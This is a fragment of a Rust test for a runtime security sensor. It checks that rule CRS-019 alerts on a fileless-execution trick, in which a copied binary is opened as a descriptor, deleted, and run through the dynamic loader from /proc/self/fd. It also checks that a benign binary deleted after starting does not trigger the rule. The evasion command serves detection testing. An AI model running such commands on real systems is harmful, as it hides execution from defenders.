        &[],
        "cp /usr/bin/strace /tmp/.s && exec 3</tmp/.s && rm /tmp/.s && /lib64/ld-linux-x86-64.so.2 /proc/self/fd/3 -V",
    );
    let a = sensor.expect_alert("CRS-019", &loaded);
    assert_alert_fields(&a, "CRS-019", &loaded);
    assert_eq!(
        a.events[0].process().exe,
        "/lib64/ld-linux-x86-64.so.2",
        "{a:?}"
    );
    assert!(a.summary.contains("/proc/self/fd/3"), "{a:?}");

    // Deleted after it started: the exec had a link (an upgrade in place looks like this).
    let benign = run_sh(
        &[],
        "cp /bin/busybox /tmp/sleep && /tmp/sleep 2 & sleep 1; rm /tmp/sleep; wait; ls /",
    );
    sensor.assert_no_alert("CRS-019", &benign, SETTLE);
    let unlinked: Vec<pb::Event> = sensor
        .events()
        .into_iter()
        .filter(|e| e.cid() == benign && e.process().exe_unlinked)
        .collect();
    assert!(unlinked.is_empty(), "{unlinked:?}");
}
